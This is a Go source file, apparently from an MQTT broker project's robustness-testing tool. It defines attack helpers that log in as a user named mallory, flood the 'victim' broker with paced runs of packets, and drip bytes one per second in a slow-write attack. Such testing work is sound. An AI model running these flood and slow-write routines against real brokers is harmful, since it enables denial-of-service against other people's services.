package main

import (
	"fmt"
	"io"
	"time"

	"github.com/mqttward/mqttward/packets"
)

// maxRun bounds the packets of one write.
const maxRun = 32

// login sends a CONNECT of MQTT 5.0 as mallory, who has an account, and waits
// until it is accepted.
func (s *siege) login(c *attacker, connect *packets.Connect) error {
	connect.HasUsername, connect.Username = true, []byte(mallory)
	connect.HasPassword, connect.Password = true, []byte(password)
	return s.connect(c, connect)
}

// connect sends a CONNECT of MQTT 5.0 and waits until it is accepted.
func (s *siege) connect(c *attacker, connect *packets.Connect) error {
	connect.Level = byte(packets.V5)
	c.Reader.Version = packets.V5
	c.Out = packets.AppendConnect(c.Out, packets.V5, connect)
	switch p, err := c.Next(); {
	case err != nil:
		s.unanswered.Add(1)
		return err
	case p.Type != packets.CONNACK || p.Reason != packets.Success:
		return fmt.Errorf("%v (%v)", p.Type, p.Reason)
	}
	s.logins.Add(1)
	return nil
}

// send writes a run of n packets, at the pace of the attack, and tells whether
// the attack goes on.
func (s *siege) send(c *attacker, n int, run []byte) bool {
	if s.writes.WaitN(s.ctx, n) != nil {
		return false
	}
	if _, err := c.Write(run); err != nil {
		return false
	}
	s.packets.Add(int64(n))
	s.bytes.Add(int64(len(run)))
	return true
}

// flood sends runs of packets as fast as the pace lets it, and reads whatever
// comes. packet appends packet number k.
func (s *siege) flood(c *attacker, run int, packet func(dst []byte, k int) []byte) {
	drained := make(chan struct{})
	go func() {
		defer close(drained)
		s.wait(c)
	}()
	var b []byte
	for k := 0; ; {
		b = b[:0]
		for range run {
			b = packet(b, k)
			k++
		}
		if !s.send(c, run, b) {
			break
		}
	}
	_ = c.Close()
	<-drained
}

// wait reads until the victim closes the connection or the time is over.
func (*siege) wait(c *attacker) { _, _ = io.Copy(io.Discard, c.Conn) }

// drip writes a byte a second.
func (s *siege) drip(c *attacker, b []byte) {
	second := time.NewTicker(time.Second)
	defer second.Stop()
	for i := range b {
		if _, err := c.Write(b[i : i+1]); err != nil {
			return
		}
		select {
		case <-s.ctx.Done():
			return
		case <-second.C:
		}
	}
	s.wait(c)
}

// packetID numbers packets within the range of the protocol.
func packetID(k int) uint16 { return uint16(k%0xffff) + 1 } //nolint:gosec // G115: it is below 1<<16
